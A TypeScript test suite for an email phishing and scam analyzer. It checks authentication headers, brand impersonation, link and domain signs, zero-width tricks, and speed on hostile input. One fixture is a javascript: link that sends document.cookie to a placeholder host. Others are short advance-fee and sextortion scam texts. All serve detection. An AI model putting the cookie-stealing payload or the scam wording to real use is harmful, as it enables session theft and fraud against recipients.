import { describe, expect, it } from 'vitest';
import { createContext } from '../../context.js';
import { analyzeEmail } from './analyze.js';
import { readHeaderBlock } from './parse.js';
import type { EmailAnalysisResult } from './types.js';

const ctx = createContext({ offline: true });
const run = (rawHeaders: string | null, emailBody: string): Promise<EmailAnalysisResult> =>
  analyzeEmail({ rawHeaders, emailBody }, ctx);
const codes = (r: EmailAnalysisResult): string[] => r.findings.map((f) => f.code);
const impact = (r: EmailAnalysisResult, code: string): number | undefined =>
  r.findings.find((f) => f.code === code)?.scoreImpact;

describe('issue 22, round 2: calm on ordinary mail, sharp on modern scams', () => {
  it('reads headers after one stray line, and not a block that starts with two', () => {
    const block = readHeaderBlock(
      'Original headers below:\nFrom: A <a@example.ca>\nTo: b@example.ca\nSubject: hi\n\nbody',
    );
    expect(block?.headers.startsWith('From:')).toBe(true);
    expect(readHeaderBlock('note one\nnote two\nFrom: a@example.ca\nTo: b@example.ca\n\nx')).toBeNull();
  });

  it('every link plain http in a recent HTML message is a sign; not in 2002, not in list mail', async () => {
    const body =
      '<p>Your reward is waiting.</p><p><a href="http://quiet-harbour.example/c/1">Claim your reward</a></p><p><a href="http://quiet-harbour.example/u">Unsubscribe</a></p>';
    const recent = await run(
      'From: Offers <deals@quiet-harbour.example>\nTo: a@example.ca\nSubject: Hello\nDate: Tue, 06 Jan 2026 10:00:00 +0000',
      body,
    );
    expect(impact(recent, 'email-link-plain-http')).toBe(15);
    const old = await run(
      'From: Offers <deals@quiet-harbour.example>\nTo: a@example.ca\nSubject: Hello\nDate: Tue, 06 Aug 2002 10:00:00 +0000',
      body,
    );
    expect(codes(old)).not.toContain('email-link-plain-http');
    const list = await run(
      'From: Ann <ann@example.org>\nTo: dev@lists.example.org\nSubject: Re: build\nList-Id: <dev.lists.example.org>\nPrecedence: list\nDate: Tue, 06 Jan 2026 10:00:00 +0000',
      '<p>The old build page is <a href="http://build.example.org/old">here</a>.</p>',
    );
    expect(impact(list, 'email-link-plain-http') ?? 0).toBe(0);
    // Typed addresses (autolinks) in a discussion are not marketing links.
    const typed = await run(
      'From: Ann <ann@example.org>\nTo: bo@example.ca\nSubject: site\nDate: Tue, 06 Jan 2026 10:00:00 +0000',
      '<p>See <a href="http://www.example.org/">http://www.example.org/</a></p>',
    );
    expect(codes(typed)).not.toContain('email-link-plain-http');
  });

  it('a brand display name signed by the brand’s own DKIM domain is not an impersonation', async () => {
    const head =
      'From: "Disney+" <disneyplus@sparkpostmail.com>\nTo: a@example.ca\nSubject: New this week\nReturn-Path: <msprvs1=1=bounces-1@sparkpostmail.com>';
    const body = '<p>New this week.</p><p><a href="https://www.disneyplus.com/">Watch</a></p>';
    const signed = await run(
      `${head}\nDKIM-Signature: v=1; a=rsa-sha256; d=messaging.disneyplus.com; s=s1; b=x`,
      body,
    );
    expect(codes(signed)).not.toContain('email-sender-brand-display-name');
    const unsigned = await run(head, body);
    expect(codes(unsigned)).toContain('email-sender-brand-display-name');
    const failed = await run(
      `${head}\nAuthentication-Results: mx.example.ca; dmarc=fail header.from=sparkpostmail.com\nDKIM-Signature: v=1; a=rsa-sha256; d=disneyplus.com; s=s1; b=x`,
      body,
    );
    expect(codes(failed)).toContain('email-sender-brand-display-name');
    // A signature copied from a real message fails at the receiver: it vouches for nothing.
    const copied = await run(
      `${head}\nAuthentication-Results: mx.example.ca; dkim=fail header.d=disneyplus.com\nDKIM-Signature: v=1; a=rsa-sha256; d=disneyplus.com; s=s1; b=x`,
      body,
    );
    expect(codes(copied)).toContain('email-sender-brand-display-name');
    // Verified by an earlier receiver, broken later by a relay that rewrote a header.
    const relayed = await run(
      `${head}\nAuthentication-Results: mx.example.ca; dkim=fail header.d=disneyplus.com\nAuthentication-Results: relay.example.ca; dkim=pass header.d=disneyplus.com\nDKIM-Signature: v=1; a=rsa-sha256; d=disneyplus.com; s=s1; b=x`,
      body,
    );
    expect(codes(relayed)).not.toContain('email-sender-brand-display-name');
  });

  it('a DKIM failure alone weighs nothing; beside a deceptive sign it keeps its weight', async () => {
    const ar = 'Authentication-Results: mx.example.ca; dkim=fail header.d=shop.example';
    const alone = await run(
      `${ar}\nFrom: Shop <news@shop.example>\nTo: a@example.ca\nSubject: Last chance: sale ends tonight`,
      'Our sale ends tonight.',
    );
    expect(alone.verdictKey).toBe('verdict.likely-safe');
    expect(impact(alone, 'email-auth-dkim-fail')).toBe(0);
    const beside = await run(
      `${ar}\nFrom: "PayPal" <service@pay-notice.example>\nTo: a@example.ca\nSubject: Account limited`,
      'Your account is limited.',
    );
    expect(impact(beside, 'email-auth-dkim-fail')).toBe(10);
  });

  it('a partner brand named in the body beside links to the sender’s own sites is no mismatch', async () => {
    const r = await run(
      'From: "IKEA Family" <ikea@news.email.ikea.example>\nTo: a@example.ca\nSubject: Free delivery ends tomorrow',
      '<p>Free delivery ends tomorrow. Pay over time with Afterpay.</p><p><a href="https://www.ikea-usa.example/sale">Shop now</a></p>',
    );
    expect(codes(r)).not.toContain('email-link-brand-mismatch');
  });

  it('zero-width breaks in dates and times (against phones’ calendar links) are not a trick', async () => {
    const r = await run(
      'From: News <news@stream.example>\nTo: a@example.ca\nSubject: Tonight',
      'Premieres tom\u200corrow at No\u200con ET, and again on Fri\u200cday.',
    );
    expect(codes(r)).not.toContain('email-zero-width');
    const trick = await run(
      'From: News <news@stream.example>\nTo: a@example.ca\nSubject: Account',
      'Your Pay\u200bPal acc\u200bount is loc\u200bked.',
    );
    expect(codes(trick)).toContain('email-zero-width');
  });

  it('ignores javascript: links that run nothing (list archives hide addresses so)', async () => {
    const r = await run(
      'From: Ann <ann@example.org>\nTo: dev@lists.example.org\nSubject: Re: x\nList-Id: <dev.lists.example.org>',
      '<p>Ann <a href="javascript:" rel="nofollow">ann...@example.org</a> wrote:</p><p>hello</p>',
    );
    expect(codes(r)).not.toContain('email-link-script');
    const live = await run(
      null,
      '<p><a href="javascript:fetch(\'https://x.example/?c=\'+document.cookie)">Open</a> <b>now</b></p>',
    );
    expect(codes(live)).toContain('email-link-script');
  });

  it('replies to another provider’s free mailbox, and a From forged as the recipient, are signs', async () => {
    const fee = await run(
      'From: "Barrister Lee" <b.lee.chambers@outlook.com>\nReply-To: lee.office@yahoo.com\nTo: a@example.ca\nSubject: Unclaimed funds',
      'Dear friend, reply with your full name and phone number.',
    );
    expect(codes(fee)).toContain('email-reply-to-freemail');
    const sextortion = await run(
      'From: <jo@example.ca>\nTo: jo@example.ca\nSubject: I know your password',
      'I recorded you. Send $1,200 in Bitcoin to this wallet within 48 hours or I will share the video.',
    );
    expect(codes(sextortion)).toContain('email-sender-is-recipient');
    const note = await run(
      'From: <jo@example.ca>\nTo: jo@example.ca\nSubject: groceries',
      'milk, eggs, bread',
    );
    expect(codes(note)).not.toContain('email-sender-is-recipient');
  });
  it('a brand’s own top-level domain is not a look-alike; its vanity domain under another ending is its own', async () => {
    const apple = await run(
      'From: "Apple Card" <no_reply@post.applecard.apple>\nTo: a@example.ca\nSubject: Your payment was received',
      '<p>Your payment was received.</p><p><a href="https://email.post.applecard.apple/f/a/abc">View</a></p>',
    );
    expect(codes(apple)).not.toContain('email-sender-lookalike-domain');
    expect(apple.verdictKey).toBe('verdict.likely-safe');
    const vanity = await run(
      'From: "Kettle Co" <news@kettleco.com>\nTo: a@example.ca\nSubject: New colours',
      '<p>New colours are in.</p><p><a href="https://us.kettleco.click/new">See them</a></p>',
    );
    expect(codes(vanity)).not.toContain('email-link-suspicious-tld');
    const cheap = await run(
      'From: "Deals" <news@kettleco.click>\nTo: a@example.ca\nSubject: New colours',
      '<p>New colours are in.</p><p><a href="https://kettleco.click/new">See them</a></p>',
    );
    expect(codes(cheap)).toContain('email-link-suspicious-tld');
  });
  it('stays fast on hostile text for the round-2 checks (long words, long scripts, long dates)', async () => {
    const inputs: [string | null, string][] = [
      [null, `${'\u00e9'.repeat(19_000)}\u200c`],
      [null, `<a href="javascript:${' '.repeat(19_000)}x">a</a><b>b</b>`],
      [`From: a@b.example\nTo: c@d.example\nDate: ${'('.repeat(19_000)}`, 'hello'],
    ];
    for (const [rawHeaders, emailBody] of inputs) {
      const t = performance.now();
      await run(rawHeaders, emailBody);
      expect(performance.now() - t).toBeLessThan(1000);
    }
  });
});
